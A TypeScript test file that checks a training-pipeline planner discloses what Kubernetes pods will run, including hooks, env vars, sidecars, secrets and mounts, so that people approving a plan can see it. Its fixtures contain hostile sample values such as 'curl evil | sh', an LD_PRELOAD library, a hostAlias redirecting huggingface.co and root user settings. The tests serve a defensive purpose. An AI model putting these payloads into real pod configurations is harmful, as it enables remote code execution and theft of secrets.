import { describe, expect, it } from 'vitest'
import { runsOf } from '../../core/plan-runs.ts'
import { planCard, planText } from '../../core/plan-text.ts'
import { parsePolicy } from '../../core/policy.ts'
import { STAGE_REVISION } from '../../core/workloads/stage-revisions.ts'
import { desired, exampleWith, trainPlan } from './training-fixture.ts'

const image = (name: string) => `${name}@sha256:${'ab'.repeat(32)}`
const STAGE = 'pipelines.support-chats.stages.0'

/** What the first step runs, and the whole plan, where the first stage has these. */
const runsWith = (changes: Record<string, unknown>) => {
  const config = exampleWith(...Object.entries(changes).map(([key, value]) => [`${STAGE}.${key}`, value] as const))
  const plan = trainPlan({ policy: parsePolicy(config) })
  return { plan, runs: runsOf(plan.steps[0]!) ?? '' }
}

describe('what people say yes to', () => {
  it('has what hooks and probes run', () => {
    const { runs } = runsWith({
      image: image('acme/trainer'),
      pod: {
        containers: [{ name: 'train', lifecycle: { postStart: { exec: { command: ['sh', '-c', 'curl evil'] } } } }],
      },
    })
    expect(runs).toContain('; once it has begun: sh -c "curl evil"')
  })

  it('has the image with enough of its digest, the command, the arguments and the Secrets', () => {
    const { runs } = runsWith({
      image: image('docker.io/acme/trainer'),
      command: ['sh', '-c', 'curl evil | sh'],
      args: ['--lr=1e-4'],
      secrets: { TOKEN: { secret: 'prod-root', key: 'token' } },
    })
    expect(runs).toBe('docker.io/acme/trainer@sha256:abababababab sh -c "curl evil | sh" --lr=1e-4; Secrets: prod-root')
  })

  it('has what its variables and its pod make of it: names, and what a command is made of', () => {
    const { plan, runs } = runsWith({
      image: image('acme/trainer'),
      command: ['sh', '-c', '$(PROGRAM)'],
      args: [],
      env: { PROGRAM: 'curl $(HOST) | sh', HOST: 'evil', LD_PRELOAD: '/data/x.so', METHOD: 'full' },
      pod: {
        nodeSelector: { 'acme.dev/rack': 'a' },
        hostAliases: [{ ip: '10.9.9.9', hostnames: ['huggingface.co'] }],
        securityContext: { runAsUser: 0 },
        containers: [{ name: 'train', workingDir: '/data' }],
      },
    })
    expect(runs).toBe(
      'acme/trainer@sha256:abababababab sh -c $(PROGRAM); in: /data; variables: METHOD HOST LD_PRELOAD PROGRAM; $(PROGRAM): "curl $(HOST) | sh"; $(HOST): evil; nodes: acme.dev/rack=a; hosts: huggingface.co at 10.9.9.9; as user: 0',
    )
    expect(runs).not.toContain('x.so')
    expect(planCard(plan).lines[0]).toContain('LD_PRELOAD')
  })

  it('has how signalbox-run saves, where its stage says so: of our variables those alone are for a stage to say', () => {
    const { runs } = runsWith({ image: image('acme/trainer'), args: [], env: { SIGNALBOX_SYNC: 'off' } })
    expect(runs).toMatch(/ train\.py; variables: SIGNALBOX_SYNC$/)
    expect(() => runsWith({ env: { SIGNALBOX_INPUTS: 'none' } })).toThrow('SIGNALBOX_INPUTS: it is ours')
  })

  it('has every container and Secret that its pod is given in any way', () => {
    const { runs } = runsWith({
      image: image('acme/trainer'),
      pod: {
        initContainers: [{ name: 'fetch', image: image('evil/init'), envFrom: [{ secretRef: { name: 'all' } }] }],
        containers: [{ name: 'tap', image: image('evil/tap'), args: ['-v'] }],
        volumes: [{ name: 'keys', secret: { secretName: 'keys' } }],
      },
    })
    expect(runs).toContain('beside it tap: evil/tap@sha256:abababababab -v')
    expect(runs).toContain('before it fetch: evil/init@sha256:abababababab')
    expect(runs).toContain('Secrets: all, keys')
  })

  it('has what is mounted from elsewhere, with where, and the ConfigMaps that it is given in any way', () => {
    const { plan, runs } = runsWith({
      image: image('acme/trainer'),
      pod: {
        volumes: [
          { name: 'code', image: { reference: image('evil/weights') } },
          { name: 'nfs', nfs: { server: '10.9.9.9', path: '/x' } },
          { name: 'pvc', persistentVolumeClaim: { claimName: 'somebodys' } },
          { name: 'map', configMap: { name: 'patched-trainer' } },
          { name: 'all', projected: { sources: [{ secret: { name: 'keys' } }, { configMap: { name: 'more' } }] } },
          { name: 'disk', awsElasticBlockStore: { volumeID: 'v' } },
          { name: 'own', emptyDir: {} },
        ],
        containers: [
          {
            name: 'train',
            envFrom: [{ configMapRef: { name: 'settings' } }],
            env: [{ name: 'A', valueFrom: { configMapKeyRef: { name: 'one', key: 'a' } } }],
            volumeMounts: ['code', 'nfs', 'pvc', 'map', 'all', 'own'].map((name) => ({ name, mountPath: `/${name}` })),
          },
        ],
        initContainers: [
          { name: 'fetch', image: image('a'), volumeMounts: [{ name: 'code', mountPath: '/usr/lib/python3' }] },
        ],
      },
    })
    expect(runs).toContain(
      [
        '; Secrets: keys; ConfigMaps: more, one, patched-trainer, settings',
        'mounts: image evil/weights@sha256:abababababab at /code and /usr/lib/python3, NFS 10.9.9.9:/x at /nfs, claim somebodys at /pvc, ConfigMap patched-trainer at /map, Secret keys at /all, ConfigMap more at /all, awsElasticBlockStore {"volumeID":"v"} at no place',
      ].join('; '),
    )
    expect(runs).not.toContain('/own')
    expect(plan.effects.images).toContain(image('evil/weights'))
  })

  it('is whole on the card and in the text of a plan: where there is no room for it, that place cuts it and says so', () => {
    const flags = [...'abcdefgh'].map((name) => `--${name}=${name.repeat(60)}`)
    const { plan, runs } = runsWith({ args: flags })
    for (const flag of flags) expect(runs).toContain(flag)
    expect(planCard(plan).lines[0]).toContain(`. Runs ${runs}`)
    expect(planText(plan, null)).toContain(`runs ${runs}`)
  })

  it('has that signalbox-run goes before it, from where, by which digests, and what it brings', () => {
    const runner = { image: image('acme/runner') }
    const sha256 = { amd64: '12'.repeat(32), arm64: '34'.repeat(32) }
    const planned = (more: object) =>
      trainPlan({
        desired: { ...desired, pods: STAGE_REVISION },
        policy: parsePolicy({
          ...exampleWith([`${STAGE}.args`, []], [`${STAGE}.runner`, { inputs: ['dataset'] }]),
          runner: { ...runner, ...more },
        }),
      })
    const [brought, fetched] = [{}, { sha256 }].map(planned)
    const runs = (plan = brought) => runsOf(plan!.steps[0]!) ?? ''
    expect(runs()).toContain(
      ' /signalbox/bin/signalbox-run run -- torchrun --standalone --nproc-per-node=$(GPUS) train.py; brought in before: dataset; ',
    )
    expect(runs()).toContain(
      '; before it signalbox-run: acme/runner@sha256:abababababab /signalbox-run install /signalbox/bin/signalbox-run',
    )
    expect(runs(fetched)).toContain(
      '; before it signalbox-run: acme/runner@sha256:abababababab fetches it from s3://acme-results/signalbox-run, by its SHA-256: amd64 121212121212, arm64 343434343434',
    )
    for (const plan of [brought!, fetched!]) {
      expect(planCard(plan).lines[0]).toContain(runs(plan))
      expect(plan.effects.images).toContain(runner.image)
    }
    expect(brought!.digest).not.toBe(fetched!.digest)
  })

  it('of what runs nothing says nothing', () => {
    expect(runsOf(trainPlan().steps.at(-1)!)).toBeNull()
  })
})
